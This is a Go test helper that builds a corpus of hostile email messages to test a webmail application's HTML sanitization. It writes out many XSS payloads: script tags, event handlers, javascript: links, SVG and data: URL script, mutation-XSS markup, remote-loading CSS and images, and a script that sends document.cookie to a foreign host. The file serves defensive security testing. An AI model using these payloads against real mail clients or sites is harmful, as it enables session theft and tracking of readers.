package browsertest

import (
	"fmt"
	"net/url"
	"strings"
)

// Hostile is one message of the hostile corpus: mail that tries to run
// script, to reach another host, or to read the application's cookies, in
// one way each.
type Hostile struct {
	Name   string // unique, a subtest name; in the Subject too
	Attack string // what it tries
	Raw    []byte // the message, with CRLF line endings
}

// ClickClass marks the elements of a hostile message that CheckHostile
// clicks as a reader would: links to javascript:, form buttons, a link
// with a ping. It clicks nothing that would lead to a foreign page by
// right (an http link opens a site when a reader clicks it).
const ClickClass = "mailwright-click"

// hostileBodies are the HTML bodies of the corpus. In them, {{ran}} is a
// JavaScript function that reports a script that ran (ScriptMarker, and a
// request to the foreign host for frames that DevTools would not see);
// {{foreign}} is the foreign origin, {{foreignhost}} its host:port.
var hostileBodies = []struct{ name, attack, html string }{
	{"script", "script elements, inline and from the foreign host",
		`<p>script</p><script>{{ran}}('script')</script><script src="{{foreign}}/script.js"></script>`},
	{"event-handlers", "event handler attributes that fire without a click",
		`<body onload="{{ran}}('body-onload')"><p>handlers</p><img src="x" onerror="{{ran}}('img-onerror')">` +
			`<svg onload="{{ran}}('svg-onload')"></svg><details open ontoggle="{{ran}}('ontoggle')"><summary>d</summary></details>` +
			`<input autofocus onfocus="{{ran}}('onfocus')"><style>@keyframes spin{from{color:red}to{color:blue}}</style>` +
			`<div style="animation:spin 1ms" onanimationstart="{{ran}}('onanimationstart')">animated</div></body>`},
	{"javascript-links", "javascript: URLs in links, a form and a frame, clicked",
		`<p><a class="` + ClickClass + `" href="javascript:{{ran}}('javascript-href')">click me</a> ` +
			`<a class="` + ClickClass + `" href=" JaVaScRiPt:{{ran}}('javascript-case')">and me</a> ` +
			`<a class="` + ClickClass + `" href="java&#x09;script:{{ran}}('javascript-tab')">me too</a></p>` +
			`<form action="javascript:{{ran}}('form-javascript')"><button class="` + ClickClass + `">submit</button></form>` +
			`<iframe src="javascript:{{ran}}('iframe-javascript')"></iframe>`},
	{"svg", "script in inline SVG, an SVG attachment and data: URLs",
		`<p>svg</p><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="40">` +
			`<script>{{ran}}('svg-script')</script>` +
			`<a class="` + ClickClass + `" xlink:href="javascript:{{ran}}('svg-link')"><text x="5" y="20">svg link</text></a>` +
			`<a id="animated"><set attributeName="href" to="javascript:{{ran}}('svg-set')"/><text x="100" y="20">set</text></a>` +
			`<image href="{{foreign}}/svg-image.png" width="10" height="10"/><use href="{{foreign}}/sprite.svg#x"/></svg>` +
			`<img src="cid:evil-svg" alt="svg attachment"><object data="cid:evil-svg"></object><embed src="cid:evil-svg">` +
			`<img src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{{ran}}('data-svg')%22/%3E">` +
			`<iframe src="data:text/html,%3Cscript%3E{{ran}}('data-frame')%3C/script%3E"></iframe>`},
	{"css", "style sheets that fetch from the foreign host, and CSS expressions",
		`<link rel="stylesheet" href="{{foreign}}/link.css"><style>@import url({{foreign}}/import.css);` +
			`body{background:url({{foreign}}/css-background.png)}@font-face{font-family:f;src:url({{foreign}}/font.woff)}p{font-family:f}</style>` +
			`<p style="background-image:url('{{foreign}}/inline-style.png');width:expression({{ran}}('css-expression'))">styled</p>` +
			`<p style="behavior:url({{foreign}}/behavior.htc);-moz-binding:url({{foreign}}/binding.xml)">bound</p>`},
	{"forms", "forms that post to the foreign host, submitted",
		`<form action="{{foreign}}/form" method="post"><input name="password" value="secret">` +
			`<button class="` + ClickClass + `" type="submit">Send</button></form>` +
			`<form id="other"></form><button class="` + ClickClass + `" form="other" formaction="{{foreign}}/formaction">Go</button>`},
	{"meta-refresh", "a refresh that takes the frame to the foreign host",
		`<head><meta http-equiv="refresh" content="0;url={{foreign}}/refresh"></head><p>refresh</p>`},
	{"meta-refresh-javascript", "a refresh to a javascript: URL",
		`<head><meta http-equiv="refresh" content="0;url=javascript:{{ran}}('refresh-javascript')"></head><p>refresh</p>`},
	{"remote-images", "images and media from the foreign host, in every attribute that loads one",
		`<body background="{{foreign}}/body-background.png"><img src="{{foreign}}/pixel.gif"><img srcset="{{foreign}}/srcset.png 2x">` +
			`<picture><source srcset="{{foreign}}/source.png"><img src="{{foreign}}/picture.png"></picture>` +
			`<video poster="{{foreign}}/poster.png" src="{{foreign}}/video.mp4"></video><audio src="{{foreign}}/audio.mp3" autoplay></audio>` +
			`<table background="{{foreign}}/table.png"><tr><td background="{{foreign}}/td.png">cell</td></tr></table>` +
			`<input type="image" src="{{foreign}}/input.png"><img src="//{{foreignhost}}/protocol-relative.png">` +
			`<img src="http://tracker.example/open.gif"></body>`},
	{"base", "a base URL that sends relative URLs to the foreign host",
		`<head><base href="{{foreign}}/base/"></head><img src="relative.png"><a class="` + ClickClass + `" href="relative.html">relative</a>`},
	{"frames", "frames, objects and embeds of the foreign host, and a srcdoc frame with script",
		`<iframe src="{{foreign}}/frame.html"></iframe><iframe srcdoc="<script>{{ran}}('srcdoc')</script>"></iframe>` +
			`<object data="{{foreign}}/object.html"></object><embed src="{{foreign}}/embed.html"><p>frames</p>`},
	{"cookie-theft", "a script that sends the cookies to the foreign host",
		`<p>cookies</p><script>new Image().src='{{foreign}}/steal?c='+encodeURIComponent(document.cookie);{{ran}}('cookie-theft')</script>` +
			`<img src="x" onerror="{{ran}}('cookie:'+document.cookie)">`},
	{"prefetch", "hints that connect to the foreign host before any click, and a ping",
		`<link rel="dns-prefetch" href="//{{foreignhost}}"><link rel="preconnect" href="{{foreign}}">` +
			`<link rel="prefetch" href="{{foreign}}/prefetch"><link rel="preload" as="image" href="{{foreign}}/preload.png">` +
			`<a class="` + ClickClass + `" ping="{{foreign}}/ping" href="#top">ping</a>`},
	{"mutation", "markup that a sanitizer and the browser may parse differently (mutation XSS)",
		`<noscript><p title="</noscript><img src=x onerror={{ran}}('noscript')>"></noscript>` +
			`<svg><style><img src=x onerror={{ran}}('svg-style')></style></svg>` +
			`<math><mtext><table><mglyph><style><img src=x onerror={{ran}}('mglyph')></style></mglyph></table></mtext></math>` +
			`<p>mutation</p>`},
}

// hostileSVG is an SVG image with a script, attached with the Content-ID
// evil-svg.
const hostileSVG = `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="{{ran}}('svg-attachment-onload')">` +
	`<script>{{ran}}('svg-attachment')</script><rect width="20" height="20" fill="red"/></svg>`

// HostileMail returns the corpus, with its foreign references pointing at
// foreign, an origin such as "http://127.0.0.1:8026" (Foreign.URL). Each
// message has an HTML body, a text body, and hostile header fields (a
// Subject and a From display name with markup), which the application's
// own pages show; one is text only, and one has an HTML attachment. Their
// subjects are "hostile <name> ..." with unique names.
func HostileMail(foreign string) []Hostile {
	u, err := url.Parse(foreign)
	if err != nil {
		panic("browsertest: HostileMail: " + err.Error())
	}
	expand := strings.NewReplacer(
		"{{ran}}", "(function(n){try{new Image().src='"+foreign+"/ran/'+encodeURIComponent(n)}catch(e){};"+ScriptMarker+"(n)})",
		"{{foreign}}", foreign,
		"{{foreignhost}}", u.Host,
	).Replace
	var corpus []Hostile
	for _, b := range hostileBodies {
		corpus = append(corpus, Hostile{Name: b.name, Attack: b.attack, Raw: hostileMessage(b.name, expand(b.html), expand(hostileSVG), expand)})
	}
	corpus = append(corpus,
		Hostile{Name: "text-only", Attack: "markup in a text/plain body and an HTML attachment",
			Raw: []byte(expand(hostileHeader("text-only") +
				"Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n" +
				"--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n<script>{{ran}}('text-plain')</script> <img src=x onerror=\"{{ran}}('text-img')\">\r\n" +
				"--b1\r\nContent-Type: text/html; charset=utf-8\r\nContent-Disposition: attachment; filename=\"\\\"><img src=x onerror={{ran}}('filename')>.html\"\r\n\r\n" +
				"<script>{{ran}}('html-attachment')</script>\r\n--b1--\r\n")),
		})
	return corpus
}

// hostileHeader is the header of a corpus message, markup in its
// Subject and From.
func hostileHeader(name string) string {
	return "From: \"<img src=x onerror={{ran}}('from-name')>\" <attacker@example.org>\r\n" +
		"To: victim@example.org\r\n" +
		fmt.Sprintf("Subject: hostile %s <script>{{ran}}('subject')</script>\r\n", name) +
		"Date: Mon, 02 Jan 2006 15:04:05 +0000\r\n" +
		fmt.Sprintf("Message-ID: <%s@hostile.example>\r\n", name) +
		"MIME-Version: 1.0\r\n"
}

// hostileMessage builds a corpus message: a text and an HTML alternative,
// and the SVG attachment that the HTML may refer to by cid:.
func hostileMessage(name, html, svg string, expand func(string) string) []byte {
	var b strings.Builder
	b.WriteString(expand(hostileHeader(name)))
	b.WriteString("Content-Type: multipart/related; boundary=\"rel\"\r\n\r\n")
	b.WriteString("--rel\r\nContent-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n")
	b.WriteString("--alt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nThe " + name + " message.\r\n")
	b.WriteString("--alt\r\nContent-Type: text/html; charset=utf-8\r\n\r\n")
	writeLines(&b, html)
	b.WriteString("--alt--\r\n")
	b.WriteString("--rel\r\nContent-Type: image/svg+xml\r\nContent-ID: <evil-svg>\r\nContent-Disposition: inline; filename=\"evil.svg\"\r\n\r\n")
	writeLines(&b, svg)
	b.WriteString("--rel--\r\n")
	return []byte(b.String())
}

// writeLines writes s with CRLF line endings, breaking lines after a tag
// end so that none is longer than SMTP allows (RFC 5321 4.5.3.1.6: 1000
// octets with CRLF).
func writeLines(b *strings.Builder, s string) {
	for len(s) > 0 {
		n := len(s)
		if n > 900 {
			n = strings.LastIndex(s[:900], ">") + 1
			if n <= 0 {
				panic("browsertest: a corpus line without a tag end to break at")
			}
		}
		b.WriteString(s[:n])
		b.WriteString("\r\n")
		s = s[n:]
	}
}
